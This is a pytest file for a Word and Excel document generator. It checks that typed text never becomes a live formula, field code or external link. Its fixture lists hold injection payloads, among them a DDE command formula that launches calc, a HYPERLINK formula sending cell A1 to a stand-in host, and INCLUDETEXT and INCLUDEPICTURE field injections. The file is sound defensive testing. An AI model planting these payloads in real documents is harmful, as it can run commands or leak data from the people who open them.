"""Whatever people type is text, in every field of every document."""

import re
from dataclasses import fields, replace
from datetime import date, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from graph.documents.make import Kind, Values, make
from graph.documents.tracker import tracker
from graph.documents.words import fit
from tests.graph.documents.reading import (
    S,
    W,
    as_excel_reads,
    column,
    excel,
    part,
    parts,
    tables,
    texts,
    word,
)
from tests.graph.documents.samples import (
    a_pack,
    a_summary,
    a_tracker,
    an_addendum,
    an_agenda,
    an_attendance,
    rows,
    the_minutes,
)

FORMULAS = (
    "=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
    "\u200b=1+1", "\ufeff=1+1", "\uff1d1+1", "'=1+1", '"=1+1', "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://a.example?"&A1,"Open")', "=IMPORTXML(A1)", "{=1+1}", "_x003D_1+1",
    "|calc", "%0A=1",
)  # fmt: skip
HOSTILE = (
    *FORMULAS,
    "</w:t></w:r><w:r><w:instrText>INCLUDETEXT</w:instrText>", "]]>", "&amp; &#x41; <b>",
    "{ DATE } { INCLUDEPICTURE https://a.example }", "\x00\x01\x08\x0b\x1f\x7f\x85\x9f",
    "\ud800 half", "\ufffe\uffff", "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "\u202eturned round\u202c", "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4",
    "a\nb\n\nc", "word " * 2000, "W" * 10_000, "_x000D_", "_x005F_x000D_",
    "&P &N &F", "*", "?", "~*", "", " ",
)  # fmt: skip


def _hostile(values: Any, text: str) -> Any:
    """The same values with this text wherever text is, in whatever they hold."""
    if isinstance(values, str):
        return text
    if isinstance(values, tuple):
        return tuple(_hostile(each, text) for each in values)
    if hasattr(values, "__dataclass_fields__"):
        named = ((each.name, getattr(values, each.name)) for each in fields(values))
        return replace(values, **{name: _hostile(held, text) for name, held in named})
    return values


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:30])
@pytest.mark.parametrize(
    ("kind", "values"),
    [(Kind.AGENDA, an_agenda()), (Kind.PACK, a_pack()), (Kind.TRACKER, a_tracker())],
    ids=["agenda", "pack", "tracker"],
)
def test_any_text_is_kept_as_text_wherever_it_stands(kind: Kind, values: Values, text: str):
    made = make(kind, _hostile(values, text))

    if kind is Kind.TRACKER:
        assert set(as_excel_reads(made, "B")) == {fit(text)}
    else:
        assert fit(text) in tables(made)[0][1][2]


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:30])
def test_any_text_is_kept_as_text_in_minutes_and_what_goes_with_them(text: str):
    wanted = fit(text)

    for kind, values in (
        (Kind.MINUTES, the_minutes()),
        (Kind.SUMMARY, a_summary("One")),
        (Kind.ADDENDUM, an_addendum()),
    ):
        made = make(kind, _hostile(values, text))
        said = [*texts(made), *(cell for table in tables(made) for row in table for cell in row)]
        lines = wanted.split("\n")
        assert all(any(line in each for each in said) for line in lines), kind
    sheet = excel(make(Kind.ATTENDANCE, _hostile(an_attendance(), text)))["Attendance"]
    cells = [cell for row in sheet.iter_rows(min_row=3) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:30])
def test_no_formula_comes_from_what_was_typed(text: str):
    """The formulas of the tracker are the same whatever its texts are."""
    plain, hostile = a_tracker(), _hostile(a_tracker(), text)

    assert _formulas(tracker(hostile)) == _formulas(tracker(_hostile(plain, "any")))


def _formulas(made: bytes) -> list[str | None]:
    return [
        each.text
        for name in sorted(parts(made, r"xl/worksheets/sheet\d\.xml"))
        for each in part(made, name).iter(f"{S}f")
    ]


@pytest.mark.parametrize("text", [each for each in FORMULAS if not each.startswith(("{", "_"))])
def test_what_would_run_when_it_is_edited_is_quoted(text: str):
    """The quote prefix keeps it text when somebody presses Enter in the cell."""
    sheet = excel(tracker(_hostile(a_tracker(), text)))["Actions"]

    assert sheet["B3"].quotePrefix
    assert sheet["B3"].data_type == "s"
    assert not excel(tracker(a_tracker()))["Actions"]["B3"].quotePrefix


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:30])
def test_no_field_link_or_script_of_a_word_document_comes_from_what_was_typed(text: str):
    made = make(Kind.PACK, _hostile(a_pack(), text))

    everything = b"".join(parts(made, r".*\.xml").values())
    assert b"instrText" not in re.sub(rb"&lt;[^<]*&gt;", b"", everything)
    assert set(re.findall(rb'w:instr="([^"]*)"', everything)) == {b" PAGE ", b" NUMPAGES "}
    assert [each for each in word(made).part.rels.values() if each.is_external] == []


@given(text=st.text(st.characters(codec=None)))
def test_any_text_goes_into_a_document_and_comes_out_again(text: str):
    """Halves of characters and control characters too, less what no file takes."""
    row = replace(rows()[0], title=text)

    read = as_excel_reads(tracker(replace(a_tracker(), rows=(row,))), "B")
    paper = make(Kind.AGENDA, replace(an_agenda(), items=(), forum=f"So: {text}"))

    assert read == [fit(text)]
    assert fit(f"So: {text}") in texts(paper)


def test_ten_thousand_characters_are_kept_whole():
    text = "".join(f"{number:05d}" for number in range(2000))
    missing = replace(a_pack(), missing=(text,))
    long_row = replace(rows()[0], update=text)

    assert text in texts(make(Kind.PACK, missing))
    assert column(tracker(replace(a_tracker(), rows=(long_row,))), "Last update") == [text]


def test_a_text_that_excel_does_not_take_is_cut_and_says_so():
    row = replace(rows()[0], update="x" * 40_000)

    [read] = column(tracker(replace(a_tracker(), rows=(row,))), "Last update")

    assert read == "x" * 32_000 + "\u2026"


def test_a_row_with_a_very_long_text_may_run_over_the_end_of_a_page():
    """All others stay together."""
    paper = an_agenda()
    longest = replace(paper.items[0], note="word " * 2000)

    made = make(Kind.AGENDA, replace(paper, items=(longest, *paper.items[1:])))

    body = part(made, "word/document.xml").iter(f"{W}tr")
    split = [row.find(f"{W}trPr/{W}cantSplit") is None for row in body]
    assert split == [False, True] + [False] * 9


def test_the_days_of_a_row_are_never_text():
    made = tracker(_hostile(a_tracker(), "=1+1"))

    assert all(isinstance(each, datetime | date) for each in column(made, "Due"))


@pytest.mark.parametrize("text", ["& P " * 300, "a\nb" * 100], ids=["long", "lines"])
def test_a_title_at_the_foot_of_a_page_is_short(text: str):
    """Excel opens nothing at all whose foot has more than 255 characters."""
    sheets = excel(tracker(_hostile(a_tracker(), text))).worksheets
    pack_footer = word(make(Kind.PACK, _hostile(a_pack(), text))).sections[0].footer

    feet = [str(sheet.oddFooter.left.text) for sheet in sheets if sheet.oddFooter]

    assert all(len(each) <= 120 and "\n" not in each for each in feet)
    assert len(pack_footer.paragraphs[0].text) < 120
